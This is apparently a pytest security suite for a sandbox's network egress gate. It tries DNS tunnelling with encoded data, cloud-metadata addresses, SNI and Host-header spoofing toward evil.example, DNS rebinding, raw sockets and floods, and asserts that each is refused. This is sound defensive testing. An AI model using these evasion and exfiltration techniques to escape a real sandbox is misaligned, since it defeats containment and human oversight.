"""The gate means what the profile says: every way around it that we know of, and a sink that tells what arrived.

The sink is this machine's own: a service on each of its addresses, on ports that the profile names. Each attack is made
from inside a real sandbox, in both ways that a gate has; what it was refused for is looked at, and that nothing came.
"""

from __future__ import annotations

import socket
import ssl
import struct
import time
from collections import Counter
from contextlib import contextmanager
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from bulkhead.egress.bounds import DEFAULT
from bulkhead.spec import EgressRule
from tests.security import inside, outward
from tests.security.gated import PATIENCE, Room, room
from tests.security.sink import HEARD, WEB, Arrival, Sink, machine_addresses

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.security.guest import Inn

pytestmark = pytest.mark.engine

V4, V6, UNIX = int(socket.AF_INET), int(socket.AF_INET6), int(socket.AF_UNIX)
STREAM, DATAGRAM = int(socket.SOCK_STREAM), int(socket.SOCK_DGRAM)
NO_WAY = ("ENETUNREACH", "EADDRNOTAVAIL")  # IPv6 is switched off inside

TLS, HTTP, RAW = "tls.example.org", "web.example.org", "raw.example.org"
PUBLIC, DEAF = "public.example.org", "deaf.example.org"
MARKED = "127.0.88"  # of loopback: the CIDR rule's
LOOPBACK = "127.0.0.1"
METADATA = ("169.254.169.254", "100.100.100.200", "168.63.129.16", "192.0.0.192")

NXDOMAIN, NOERROR, FORMERR, REFUSED = 3, 0, 1, 5


@pytest.fixture(scope="module")
def sink() -> Iterator[Sink]:
    with Sink() as opened:
        yield opened


@pytest.fixture(scope="module", params=["fds", "mux"])
def shared(request: pytest.FixtureRequest, inn: Inn, sink: Sink) -> Iterator[Room]:
    """One of either way, for all tests."""
    rules = (
        EgressRule(TLS, (sink.port,), private=True, tls=True),
        EgressRule(HTTP, (80,), private=True),
        EgressRule(RAW, (sink.port,), private=True, tls=False),
        EgressRule("*.wild.example.org", (sink.port,), private=True, tls=False),
        EgressRule(PUBLIC, (sink.port,), tls=False),
        EgressRule(f"{MARKED}.0/24", (sink.port,), private=True),
    )
    with room(inn, rules, mode=request.param) as opened:
        yield opened


@pytest.fixture
def here(shared: Room, sink: Sink) -> Iterator[Room]:
    """Nothing of an earlier test is told in a later one, and the resolver knows where the names lead."""
    shared.resolver.addresses = {
        TLS: [LOOPBACK], HTTP: [WEB], RAW: [LOOPBACK], "a.wild.example.org": [LOOPBACK],
    }  # fmt: skip
    shared.resolver.asked.clear()
    shared.told.clear()
    sink.take()
    yield shared
    shared.guest.ask(outward.let_go)


@contextmanager
def refused(here: Room, sink: Sink, *reasons: str, asked: int = 0) -> Iterator[None]:
    """Within, as many connections are refused as there are reasons; nothing arrives, and no name is asked for outside.

    asked: how many names are, where the answer is the reason.
    """
    yield
    told = here.reported(len(reasons))
    assert [connection.reason for connection in told] == list(reasons)
    assert {connection.decision for connection in told} <= {"deny"}
    assert [connection.sent for connection in told] == [0] * len(told)
    assert {connection.dialled for connection in told} <= {""}
    assert sink.take() == []
    assert len(here.resolver.asked) == asked


def spoken(here: Room, address: str, port: int, said: bytes = b"out", *options: list[Any]) -> list[str]:
    return here.guest.ask(outward.spoken, address, port, said.hex(), list(options))


RESET = ["", "reset"]


def hello(name: str | None) -> bytes:
    """The first bytes of a TLS client."""
    context = ssl.create_default_context()
    context.check_hostname = False
    sent = ssl.MemoryBIO()
    client = context.wrap_bio(ssl.MemoryBIO(), sent, server_hostname=name)
    with pytest.raises(ssl.SSLWantReadError):
        client.do_handshake()
    return sent.read()


def two_names(first: str, second: str) -> bytes:
    """A ClientHello with two entries in its list of server names."""
    name = first.encode()
    entry = b"\0" + len(name).to_bytes(2) + name
    other = b"\0" + len(second).to_bytes(2) + second.encode()
    listed = len(entry).to_bytes(2) + entry
    old = b"\0\0" + len(listed).to_bytes(2) + listed
    both = (len(entry) + len(other)).to_bytes(2) + entry + other
    body = hello(first)[5:]
    assert old in body
    grown = bytearray(body.replace(old, b"\0\0" + len(both).to_bytes(2) + both))
    sessions = 38 + 1 + grown[38]
    suites = sessions + 2 + int.from_bytes(grown[sessions : sessions + 2])
    at = suites + 1 + grown[suites]
    grown[at : at + 2] = (len(grown) - at - 2).to_bytes(2)
    grown[1:4] = (len(grown) - 4).to_bytes(3)
    return b"\x16\x03\x01" + len(grown).to_bytes(2) + bytes(grown)


def query(*labels: bytes, kind: int = 1) -> str:
    """A DNS query, hexadecimal."""
    name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
    return (struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", kind, 1)).hex()


def labels_of(name: str) -> tuple[bytes, ...]:
    return tuple(label.encode() for label in name.split("."))


def rcode(answer: str) -> int:
    return bytes.fromhex(answer)[3] & 15


def answers(answer: str) -> int:
    return int.from_bytes(bytes.fromhex(answer)[6:8])


# What is allowed: without it, silence would prove nothing


def test_what_the_profile_names_arrives(here: Room, sink: Sink) -> None:
    said = {TLS: hello(TLS), HTTP: f"GET / HTTP/1.1\r\nHost: {HTTP}\r\n\r\n".encode(), RAW: b"raw"}
    said["a.wild.example.org"] = b"wild"
    for name, data in said.items():
        port = 80 if name == HTTP else sink.port
        assert spoken(here, here.address_of(name), port, data) == [HEARD.decode(), "ended"], name
        where = WEB if name == HTTP else LOOPBACK
        assert sink.take() == [Arrival("tcp", where, port, data)]
        [told] = here.reported(1)
        assert (told.name, told.port, told.decision, told.reason, told.dialled) == (name, port, "allow", "", where)
        assert (told.sent, told.received) == (len(data), len(HEARD))
    assert here.resolver.asked == list(said)
    assert spoken(here, f"{MARKED}.1", sink.port) == [HEARD.decode(), "ended"]
    assert sink.take() == [Arrival("tcp", f"{MARKED}.1", sink.port, b"out")]
    assert here.reported(1)[0].rule == f"{MARKED}.0/24:{sink.port}"


# Addresses instead of names


def elsewhere() -> list[str]:
    """This machine's addresses, its networks' gateways and neighbours, metadata services, and everybody else."""
    own = machine_addresses(V4)
    beside = [address.rpartition(".")[0] + end for address in own for end in (".1", ".254", ".255")]
    others = ["0.0.0.0", "198.18.200.1", "198.51.100.1", "10.0.0.1", "8.8.8.8"]  # noqa: S104
    return sorted({*own, *beside, *METADATA, *others})


def test_an_address_for_which_no_name_was_asked(here: Room, sink: Sink) -> None:
    """On the ports that rules have: the gate catches it, and the runner refuses."""
    places = [(address, port) for address in elsewhere() for port in (sink.port, 80)]
    with refused(here, sink, *["address"] * len(places)):
        for address, port in places:
            assert spoken(here, address, port) == RESET, (address, port)


def test_ports_that_no_rule_has(here: Room, sink: Sink) -> None:
    """There nobody listens: the kernel inside refuses, and it goes no further."""
    for address in (*elsewhere(), here.address_of(RAW)):
        for port in (22, 443, 2375, 8080):
            assert here.guest.refused(outward.spoken, address, port, "00") == "ECONNREFUSED"
    assert here.told == []
    assert sink.take() == []


def test_a_port_that_another_names_rule_has(here: Room, sink: Sink) -> None:
    with refused(here, sink, "port", "port"):
        assert spoken(here, here.address_of(RAW), 80) == RESET
        assert spoken(here, here.address_of(HTTP), sink.port) == RESET


def test_udp_to_anybody(here: Room, sink: Sink) -> None:
    with refused(here, sink):
        for address in (*elsewhere(), here.address_of(RAW)):
            if not address.endswith(".255"):
                assert here.guest.refused(outward.datagram, address, sink.port) == "ECONNREFUSED", address
        for address in ("255.255.255.255", "224.0.0.251"):
            here.guest.refused(outward.datagram, address, sink.port)


@pytest.mark.parametrize(
    ("family", "kind", "protocol"),
    [(V4, DATAGRAM, 1), (V4, int(socket.SOCK_RAW), 255), (V4, int(socket.SOCK_RAW), 6), (17, int(socket.SOCK_RAW), 0),
     (V6, int(socket.SOCK_RAW), 58), (V4, STREAM, 132), (V4, STREAM, 262)],
    ids=["ping", "raw-ip", "raw-tcp", "packet", "icmp6", "sctp", "mptcp"],
)  # fmt: skip
def test_other_kinds_of_sockets(here: Room, family: int, kind: int, protocol: int) -> None:
    assert here.guest.refused(outward.made, family, kind, protocol) == "EPERM"


def test_ipv6(here: Room, sink: Sink) -> None:
    """Caught as IPv4 is; where the engine switches it off, there is no way at all."""
    places = [
        *machine_addresses(V6),
        "::1",
        "2001:db8::1",
        "fd00:ec2::254",
        "64:ff9b::7f00:1",
        "2002:7f00:1::",
        "::ffff:127.0.0.1",
    ]
    met = [here.guest.answer(outward.spoken, address, sink.port, "00") for address in places]
    caught = [answer for answer in met if answer == {"value": RESET}]
    assert all(answer in caught or answer.get("errno") in NO_WAY for answer in met), met
    with refused(here, sink, *["address"] * len(caught)):
        for address in places:
            assert here.guest.refused(outward.datagram, address, sink.port) in (*NO_WAY, "ECONNREFUSED"), address


@pytest.mark.parametrize("text", ["2130706433", "0x7f000001", "017700000001", "127.1", "0x7f.0.0.1", "127.0.0.1."])
def test_numbers_for_names(here: Room, sink: Sink, text: str) -> None:
    """What libc takes as an address is one; what it does not is a name that no rule has."""
    found = here.guest.ask(inside.resolved, text)
    if found == LOOPBACK:
        with refused(here, sink, "address"):
            assert spoken(here, found, sink.port) == RESET
    else:
        assert found in ("EAI_NONAME", "EAI_NODATA")


# DNS: answered in the sandbox, and by nobody else


DATA = "73656372657420646174612c2068657861646563696d616c2e2e2e"


@pytest.mark.parametrize("kind", [1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 64, 65, 255], ids=lambda kind: f"type{kind}")
def test_no_name_leaves(here: Room, sink: Sink, kind: int) -> None:
    """Data in names of somebody's own domain: A, NS, CNAME, SOA, NULL, PTR, MX, TXT, AAAA, SRV, SVCB, HTTPS, ANY."""
    name = f"{DATA}{kind}.tunnel.example"
    for server in (LOOPBACK, "8.8.8.8", *machine_addresses(V4)):
        for answer in here.guest.ask(outward.asked, query(*labels_of(name), kind=kind), server):
            assert (rcode(answer), answers(answer)) == (NXDOMAIN, 0)
    [told] = here.reported(1)
    assert (told.name, told.reason, told.decision, told.port) == (name, "name", "deny", 0)
    assert here.resolver.asked == []
    assert sink.take() == []


@pytest.mark.parametrize("kind", [2, 5, 6, 10, 15, 16, 28, 33, 64, 65], ids=lambda kind: f"type{kind}")
def test_an_allowed_name_has_an_address_and_nothing_else(here: Room, kind: int) -> None:
    for answer in here.guest.ask(outward.asked, query(*labels_of(RAW), kind=kind)):
        assert (rcode(answer), answers(answer)) == (NOERROR, 0)
    assert (here.resolver.asked, here.told) == ([], [])


def test_a_name_is_not_asked_for_before_a_connection_was_judged(here: Room, sink: Sink) -> None:
    """Nor is one below a wildcard, which would be a tunnel to the owner of its domain."""
    for name in (TLS, HTTP, RAW, f"{DATA}.wild.example.org"):
        assert here.address_of(name).startswith("198.18.")
    assert here.resolver.asked == []
    with refused(here, sink, "sni", "host"):
        spoken(here, here.address_of(TLS), sink.port, hello(f"{DATA}.example"))
        spoken(here, here.address_of(HTTP), 80, f"GET / HTTP/1.1\r\nHost: {DATA}.example\r\n\r\n".encode())


@pytest.mark.parametrize(
    "labels",
    [
        (b"wild", b"example", b"org"),
        (b"evilwild", b"example", b"org"),
        (b"a", b"wild", b"example", b"org", b"evil", b"example"),
        (b"a.wild.example.org",),
        (b"a.wild", b"example.org"),
        (b"*", b"wild", b"example", b"org"),
        (b"a_b", b"wild", b"example", b"org"),
        (b"-", b"wild", b"example", b"org"),
        (b"a b", b"wild", b"example", b"org"),
        (b"a@b", b"wild", b"example", b"org"),
        (b"127", b"0", b"0", b"2"),
        (b"raw", b"example", b"org\0", b"evil", b"example"),
        (b"raw\0", b"example", b"org"),
        (b"raw", b"example", b"org\0"),
        (b"evil", b"example\0raw", b"example", b"org"),
        (b"user@raw", b"example", b"org"),
        (b"raw", b"example", b"org:443"),
        (b"raw%2eexample", b"org"),
        (b"raw", b"example", b"org%00"),
        (b"evil", b"example#raw", b"example", b"org"),
        ("raw。example。org".encode(),),
        ("\uff52aw".encode(), b"example", b"org"),
        ("raẅ".encode(), b"example", b"org"),
        (b"xn--raw-ymc", b"example", b"org"),
        (b"raw", b"example", b"org", b"local"),
        (b"raw",),
        (b"localhost",),
    ],
    ids=repr,
)
def test_names_that_look_like_an_allowed_one(here: Room, labels: tuple[bytes, ...]) -> None:
    for answer in here.guest.ask(outward.asked, query(*labels)):
        assert (rcode(answer), answers(answer)) == (NXDOMAIN, 0)
    assert [connection.reason for connection in here.reported(1)] == ["name"]
    assert here.resolver.asked == []


@pytest.mark.parametrize("name", ["RAW.Example.ORG", "raw.example.org."])
def test_a_name_in_other_letters_is_the_same(here: Room, name: str) -> None:
    assert here.address_of(name) == here.address_of(RAW)
    assert here.told == []


@pytest.mark.parametrize(
    ("message", "code"),
    [
        ("0007010000020000000000000161000001000101620000010001", FORMERR),  # two questions
        ("00070100000100000000000040" + "61" * 64 + "0000010001", FORMERR),  # a label of 64
        ("0007010000010000000000003f" + ("61" * 63 + "3f") * 4 + "0000010001", FORMERR),  # a name of 320
        ("000701000001000000000000c00c00010001", FORMERR),  # a pointer to itself
        ("00072900000100000000000001610000060001", 4),  # an update
        ("0007010000010000000000000161000001" + "0003", REFUSED),  # the class CHAOS
        ("00070100000100000000000001610000fc0001", REFUSED),  # a zone transfer
    ],
    ids=["two-questions", "label", "name", "pointer", "update", "class", "transfer"],
)
def test_messages_that_are_no_plain_query(here: Room, message: str, code: int) -> None:
    for answer in here.guest.ask(outward.asked, message):
        assert (rcode(answer), answers(answer)) == (code, 0)
    assert (here.resolver.asked, here.told) == ([], [])


# TLS and HTTP for somebody else


@pytest.mark.parametrize(
    ("said", "reason"),
    [
        (hello("evil.example"), "sni"),
        (hello(f"a.{TLS}"), "sni"),
        (hello(None), "sni"),
        (two_names(TLS, "evil.example"), "sni"),
        (two_names("evil.example", TLS), "sni"),
        (f"GET / HTTP/1.1\r\nHost: {TLS}\r\n\r\n".encode(), "plaintext"),
        (b"SSH-2.0-out\r\n", "plaintext"),
        (hello(TLS)[:60], "silent"),
        (b"", "silent"),
    ],
    ids=["wrong", "below", "absent", "right-and-wrong", "wrong-and-right", "http", "ssh", "half", "nothing"],
)
def test_tls_that_is_not_for_the_name(here: Room, sink: Sink, said: bytes, reason: str) -> None:
    with refused(here, sink, reason):
        assert spoken(here, here.address_of(TLS), sink.port, said) == RESET


OK = f"GET / HTTP/1.1\r\nHost: {HTTP}\r\n\r\n".encode()


@pytest.mark.parametrize(
    ("said", "reason"),
    [
        (b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n", "host"),
        (b"GET / HTTP/1.1\r\n\r\n", "host"),
        (OK[:-2] + b"Host: evil.example\r\n\r\n", "host"),
        (b"GET http://evil.example/ HTTP/1.1\r\nHost: web.example.org\r\n\r\n", "host"),
        (b"GET / HTTP/1.1\r\nHost: web.example.org@evil.example\r\n\r\n", "host"),
        (b"GET / HTTP/1.1\r\nHost: web.example.org:8080\r\n\r\n", "host"),
        (b"GET / HTTP/1.1\r\nHost: web.example.org\0.evil.example\r\n\r\n", "host"),
        (b"CONNECT evil.example:443 HTTP/1.1\r\nHost: web.example.org\r\n\r\n", "host"),
        (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "host"),
        (hello(HTTP), "host"),
        (b"GET / HTTP/1.1\r\nHost", "silent"),
        (b"", "silent"),
    ],
    ids=["wrong", "absent", "two", "absolute", "userinfo", "port", "nul", "connect", "h2", "tls", "half", "nothing"],
)
def test_http_that_is_not_for_the_name(here: Room, sink: Sink, said: bytes, reason: str) -> None:
    with refused(here, sink, reason):
        assert spoken(here, here.address_of(HTTP), 80, said) == RESET


def test_a_second_request_for_another_host(here: Room, sink: Sink) -> None:
    spoken(here, here.address_of(HTTP), 80, OK + b"GET /out HTTP/1.1\r\nHost: evil.example\r\n\r\n")
    [told] = here.reported(1)
    assert (told.decision, told.reason) == ("deny", "host")
    assert b"evil" not in b"".join(arrival.data for arrival in sink.take())


# Where a name leads


@pytest.mark.parametrize(
    ("name", "address", "reason"),
    [
        (PUBLIC, LOOPBACK, "own"),
        (PUBLIC, "::1", "own"),
        (PUBLIC, "10.0.0.1", "private"),
        (PUBLIC, "100.64.0.1", "private"),
        (PUBLIC, "fd12::1", "private"),
        (PUBLIC, "0.0.0.0", "forbidden"),  # noqa: S104
        (PUBLIC, "::", "forbidden"),
        (PUBLIC, f"::ffff:{LOOPBACK}", "forbidden"),
        (PUBLIC, f"::{LOOPBACK}", "forbidden"),
        (PUBLIC, "64:ff9b::7f00:1", "private"),
        (PUBLIC, "2002:7f00:1::", "forbidden"),
        (RAW, "169.254.169.254", "forbidden"),
        (RAW, "100.100.100.200", "forbidden"),
        (RAW, "fd00:ec2::254", "forbidden"),
        (RAW, "64:ff9b::a9fe:a9fe", "forbidden"),
        (RAW, "fe80::1", "forbidden"),
        (RAW, "fe80::1%lo", "forbidden"),
        (RAW, "224.0.0.251", "forbidden"),
        (RAW, "255.255.255.255", "forbidden"),
        (RAW, "0.0.0.0", "forbidden"),  # noqa: S104
        (RAW, f"::ffff:{LOOPBACK}", "forbidden"),
    ],
)
def test_a_name_that_leads_inside(here: Room, sink: Sink, name: str, address: str, reason: str) -> None:
    here.resolver.addresses[name] = [address]
    with refused(here, sink, reason, asked=1):
        assert spoken(here, here.address_of(name), sink.port) == RESET


def test_a_name_that_leads_to_this_machine(here: Room, sink: Sink) -> None:
    own = [*machine_addresses(V4), *machine_addresses(V6)]
    with refused(here, sink, *["own"] * len(own), asked=len(own)):
        for address in own:
            here.resolver.addresses[PUBLIC] = [address]
            assert spoken(here, here.address_of(PUBLIC), sink.port) == RESET


def test_a_name_that_leads_elsewhere_the_second_time(here: Room, sink: Sink) -> None:
    """Rebinding: each connection's own answer is judged, and only what was judged is dialled."""
    here.resolver.addresses[RAW] = [f"{MARKED}.7"]
    assert spoken(here, here.address_of(RAW), sink.port) == [HEARD.decode(), "ended"]
    assert [arrival.address for arrival in sink.take()] == [f"{MARKED}.7"]
    here.reported(1)
    here.resolver.addresses[RAW] = ["169.254.169.254"]
    with refused(here, sink, "forbidden", asked=2):
        assert spoken(here, here.address_of(RAW), sink.port) == RESET


def test_no_mix_of_addresses_gets_one_past(here: Room, sink: Sink) -> None:
    here.resolver.addresses[RAW] = ["169.254.169.254", f"{MARKED}.9", "0.0.0.0"]  # noqa: S104
    assert spoken(here, here.address_of(RAW), sink.port) == [HEARD.decode(), "ended"]
    assert [arrival.address for arrival in sink.take()] == [f"{MARKED}.9"]
    assert here.reported(1)[0].dialled == f"{MARKED}.9"


# The namespace, the gate, and the neighbours


@pytest.mark.parametrize("kind", [16, 17, 20, 21, 24, 25, 28, 32, 36], ids=lambda kind: f"rtm{kind}")
def test_nothing_of_the_network_is_changed(here: Room, kind: int) -> None:
    """NEWLINK, DELLINK, NEWADDR, DELADDR, NEWROUTE, DELROUTE, NEWNEIGH, NEWRULE, NEWQDISC."""
    assert here.guest.refused(outward.configured, kind, "00" * 32) == "EPERM"
    assert here.guest.ask(inside.interfaces) == ["lo"]


IP, SOCKET, TCP = int(socket.IPPROTO_IP), int(socket.SOL_SOCKET), int(socket.IPPROTO_TCP)
IP_OPTIONS, IP_FREEBIND, IP_TRANSPARENT, SO_MARK, SO_BINDTODEVICE = 4, 15, 19, 36, 25


@pytest.mark.parametrize(
    ("option", "said"),
    [
        ([IP, IP_TRANSPARENT, 1], "EPERM"),
        ([SOCKET, SO_MARK, 1], "EPERM"),
        ([SOCKET, SO_BINDTODEVICE, b"eth0\0".hex()], "ENODEV"),
        ([SOCKET, SO_BINDTODEVICE, b"docker0\0".hex()], "ENODEV"),
    ],
    ids=["transparent", "mark", "eth0", "docker0"],
)
def test_options_that_the_kernel_refuses(here: Room, option: list[Any], said: str) -> None:
    assert here.guest.refused(outward.spoken, "198.51.100.1", 80, "00", [option]) == said


@pytest.mark.parametrize(
    "option",
    [[IP, IP_FREEBIND, 1], [SOCKET, SO_BINDTODEVICE, b"lo\0".hex()], [SOCKET, int(socket.SO_DONTROUTE), 1]],
    ids=["freebind", "lo", "dontroute"],
)
def test_options_that_lead_nowhere_else(here: Room, sink: Sink, option: list[Any]) -> None:
    with refused(here, sink, "address"):
        assert spoken(here, machine_addresses(V4)[-1], sink.port, b"out", option) == RESET


def test_a_route_of_the_packets_own(here: Room, sink: Sink) -> None:
    """Source routing, loose and strict: by way of an allowed name's address."""
    hop = socket.inet_aton(here.address_of(RAW))
    for kind in (131, 137):
        option = bytes([kind, 7, 4]) + hop + b"\0"
        said = here.guest.answer(
            outward.spoken, machine_addresses(V4)[-1], sink.port, b"out".hex(), [[IP, IP_OPTIONS, option.hex()]]
        )
        assert said == {"value": RESET} or "errno" in said, said
    assert {connection.reason for connection in here.told} <= {"address"}
    assert sink.take() == []


def test_data_in_the_first_packet(here: Room, sink: Sink) -> None:
    with refused(here, sink, "address", "sni"):
        assert here.guest.ask(outward.spoken_in_the_syn, machine_addresses(V4)[-1], sink.port, b"out".hex()) == RESET
        said = hello("evil.example").hex()
        assert here.guest.ask(outward.spoken_in_the_syn, here.address_of(TLS), sink.port, said) == RESET


def test_nothing_of_the_gates_is_in_sight(here: Room) -> None:
    """Its process is in another namespace, and no Unix socket listens in the network's, which is shared."""
    assert len(here.guest.ask(inside.processes)) == 2
    rows = here.guest.ask(inside.text_of, "/proc/net/unix").splitlines()[1:]
    listening = 0x10000
    assert [row for row in rows if int(row.split()[3], 16) & listening] == []
    assert [row for row in rows if len(row.split()) > 7] == []  # none has a name


def test_no_variable_for_a_proxy(here: Room) -> None:
    """A program that looks for one finds none, and one that does not is caught as well."""
    for pid in here.guest.ask(inside.processes):
        assert [name for name in here.guest.ask(inside.environment_of, pid) if "proxy" in name.lower()] == []


def test_the_resolver_is_the_gate_and_knows_no_other(here: Room) -> None:
    assert here.guest.ask(inside.text_of, "/etc/resolv.conf") == ""  # to a resolver, 127.0.0.1
    assert here.guest.ask(inside.resolved, "example.org") in ("EAI_NONAME", "EAI_NODATA")
    assert [connection.name for connection in here.reported(1)] == ["example.org"]


def test_two_sandboxes_do_not_meet(inn: Inn, here: Room, sink: Sink) -> None:
    """Neither the other's services, whatever address they have there, nor its gate and its names."""
    rule = EgressRule("other.example.org", (sink.port,), private=True, tls=False)
    with room(inn, [rule], name="neighbour") as other:
        other.resolver.addresses["other.example.org"] = [f"{MARKED}.3"]
        theirs = other.address_of("other.example.org")
        mine = here.address_of(TLS)
        for family, address in ((V4, [LOOPBACK, 0]), (V4, ["0.0.0.0", 0]), (UNIX, ["\0bulkhead-neighbour"])):  # noqa: S104
            name = other.guest.ask(inside.listening, family, address)
            assert other.guest.ask(inside.connected, family, STREAM, name) == "connected"
            assert here.guest.refused(inside.connected, family, STREAM, name) == "ECONNREFUSED"
            if family == V4:
                assert here.guest.refused(inside.connected, family, STREAM, [theirs, name[1]]) == "ECONNREFUSED"
        assert here.guest.ask(inside.resolved, "other.example.org") in ("EAI_NONAME", "EAI_NODATA")
        assert [connection.name for connection in here.reported(1)] == ["other.example.org"]
        # The same address means another name there: that of whoever connects.
        assert spoken(other, mine, sink.port) in (RESET, [HEARD.decode(), "ended"])
        assert {connection.name for connection in other.reported(1)} <= {"", "other.example.org"}
        assert {arrival.address for arrival in sink.take()} <= {f"{MARKED}.3"}
    assert here.told == []


# Floods: a sandbox ruins nothing but its own connections


def test_a_thousand_that_say_nothing(here: Room, sink: Sink) -> None:
    """Each is counted; DNS and what else is open goes on, and all is refused or ended with a reason."""
    here.guest.ask(outward.half_open, here.address_of(TLS), sink.port, 900)
    begun = time.monotonic()
    assert here.guest.ask(inside.echo, "still there") == "still there"
    assert here.address_of(RAW).startswith("198.18.")
    assert time.monotonic() - begun < 1
    here.guest.ask(outward.let_go)
    _settled(here)
    reasons = Counter(connection.reason for connection in here.told)
    assert reasons.keys() <= {"silent", "connections"}
    assert 0 < reasons["silent"] <= DEFAULT.connections
    assert reasons["connections"] > 0
    assert sink.take() == []
    assert here.resolver.asked == []


def test_a_storm_of_resets(here: Room, sink: Sink) -> None:
    assert here.guest.ask(outward.reset_storm, here.address_of(TLS), sink.port, 500) == 500
    _settled(here)
    assert {connection.reason for connection in here.told} <= {"silent", "connections"}
    assert sink.take() == []


def test_a_flood_of_queries(here: Room) -> None:
    """Bounded: of names and of answers. Whoever asks slowly afterwards is answered again."""
    queries = [query(f"{DATA}{number}".encode(), b"tunnel", b"example") for number in range(5000)]
    here.guest.ask(outward.flooded_with_queries, queries, 0.5)
    assert here.guest.ask(inside.echo, "still there") == "still there"
    deadline = time.monotonic() + PATIENCE
    while not here.guest.ask(outward.asked_over_tcp, query(*labels_of(RAW))):
        assert time.monotonic() < deadline
    assert len(here.told) <= 4096
    # Of questions, which have no port: a connection of another test may be told only now, as silent.
    assert {told.reason for told in here.told if not told.port} == {"name", "rate"}
    assert here.resolver.asked == []


def test_an_upload_that_nobody_reads(inn: Inn, here: Room, sink: Sink) -> None:
    """500 MB on 40 connections: what the kernels hold and two pieces a connection, and nothing is kept beside."""
    with room(inn, [EgressRule(DEAF, (sink.deaf,), private=True, tls=False)], mode=here.mode) as own:
        own.resolver.addresses[DEAF] = [LOOPBACK]
        before = _resident()
        sent = own.guest.ask(outward.poured, own.address_of(DEAF), sink.deaf, 500 * 2**20, 40)
        assert 2**20 < sent < 500 * 2**20
        assert _resident() - before < 48 * 2**20
        assert own.guest.ask(inside.echo, "still there") == "still there"
        sink.end_deaf(40)
        assert {(told.decision, told.dialled) for told in own.reported(40)} == {("allow", LOOPBACK)}


def _settled(here: Room) -> None:
    """All that was caught has been told: a mark at the end, asked for again until it is not bounded any more."""
    deadline = time.monotonic() + PATIENCE
    address = here.address_of(RAW)
    while True:
        here.guest.answer(outward.spoken, address, 80, "00")
        if any(connection.reason == "port" for connection in here.told):
            break
        assert time.monotonic() < deadline
    here.told[:] = [connection for connection in here.told if connection.reason != "port"]


def _resident() -> int:
    return int(Path("/proc/self/statm").read_text().split()[1]) * 4096
